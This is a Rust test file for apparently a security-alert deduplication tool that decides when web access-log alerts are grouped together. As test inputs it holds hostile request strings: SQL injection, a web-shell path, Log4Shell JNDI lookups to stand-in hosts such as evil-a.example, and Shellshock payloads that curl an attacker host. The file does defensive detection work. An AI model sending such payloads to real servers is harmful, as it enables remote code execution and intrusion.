//! Requests to web servers.

use serde_json::json;

use super::{decoded, folds, of};

#[test]
fn a_page_that_a_web_server_gave_is_news_and_one_that_it_refused_is_not() {
    let request = |status: &str, method: &str, url: &str| {
        decoded(
            "web-accesslog",
            json!({"srcip": "203.0.113.5", "url": url, "id": status, "protocol": method}),
        )
    };
    let injected = request("200", "GET", "/a?id=1%20union%20select");
    for other in [
        request("200", "GET", "/shell.php?cmd=id"),
        request("200", "POST", "/a?id=1"),
        request("200", "GET", "/a?cmd=id"),
    ] {
        assert_eq!(of(&injected).key, of(&other).key, "many are bounded in one window");
        assert!(!folds(&injected, &other), "{other}");
    }
    assert!(folds(&injected, &request("200", "GET", "/a?id=2%20union%20select")));
    assert!(folds(
        &request("302", "GET", "/u/17/edit"),
        &request("302", "GET", "/u/18/edit")
    ));
    assert!(!folds(&request("302", "GET", "/a"), &request("302", "GET", "/b")));
    for status in ["404", "500"] {
        assert!(folds(&request(status, "GET", "/a"), &request(status, "POST", "/b")));
    }
}

#[test]
fn where_what_a_request_wants_run_leads_is_news_though_it_was_refused() {
    let request = |url: &str, agent: &str| {
        let mut alert = decoded(
            "web-accesslog",
            json!({"srcip": "203.0.113.5", "url": url, "id": "404"}),
        );
        alert["full_log"] = json!(format!(
            "203.0.113.5 - - [20/Jan/2026:09:02:17 +0000] \"GET {url} HTTP/1.1\" 404 1 \"https://own.example/\" \"{agent}\""
        ));
        alert
    };
    let look_up = |host: &str| format!("/?x=${{jndi:ldap://{host}/a}}");
    let seen = request(&look_up("evil-a.example"), "curl");
    for other in [
        request(&look_up("evil-b.example"), "curl"),
        request(&look_up("198.51.100.9:1389"), "curl"),
        request("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil-b.example%2Fa%7D", "curl"),
        request("/", "${${lower:j}ndi:ldap://evil-b.example/a}"),
        request("/?() {", "() { :; }; curl http://evil-b.example/a"),
        request(&format!("/?{}{}", "a".repeat(9_000), look_up("evil-b.example")), "curl"),
        request("/", "() { :; }; /bin/bash -c 'curl http://evil-b.example/a'"),
    ] {
        assert!(!folds(&seen, &other), "{other}");
        assert!(folds(&other, &other), "{other}");
    }
    for same in [
        request(&look_up("evil-a.example/b"), "curl"),
        request(&look_up("q8zt1xkp.evil-a.example"), "curl"),
        request("/?x=${y}", "curl"),
        request("/?to=http://evil-b.example/", "curl"),
        request("/?q=(function() {alert(1)})()", "x\" \"http://evil-b.example"),
        request("/?q=${x", "x\" \"http://evil-b.example"),
    ] {
        assert!(folds(&seen, &same), "{same}");
    }
}

#[test]
fn the_site_that_a_request_was_for_is_news_where_something_was_given() {
    let request = |status: &str, name: &str, text: &str| {
        let mut alert = decoded(
            "json",
            json!({"method": "GET", "srcip": "203.0.113.9", "status": status, "url": "/login.php"}),
        );
        alert["rule"]["groups"] = json!(["web", "attack"]);
        alert["data"][name] = json!(text);
        alert
    };
    for (name, one, other) in [
        ("host", "a.example", "b.example"),
        ("vhost", "a.example", "b.example"),
        ("http_host", "a.example", "b.example"),
        ("server_name", "a.example", "b.example"),
        ("domain", "a.example", "b.example"),
        ("dstip", "10.0.0.1", "10.0.0.2"),
        ("dstport", "80", "8443"),
    ] {
        assert!(
            !folds(&request("200", name, one), &request("200", name, other)),
            "{name}"
        );
        assert!(
            folds(&request("404", name, one), &request("404", name, other)),
            "{name}"
        );
    }
}
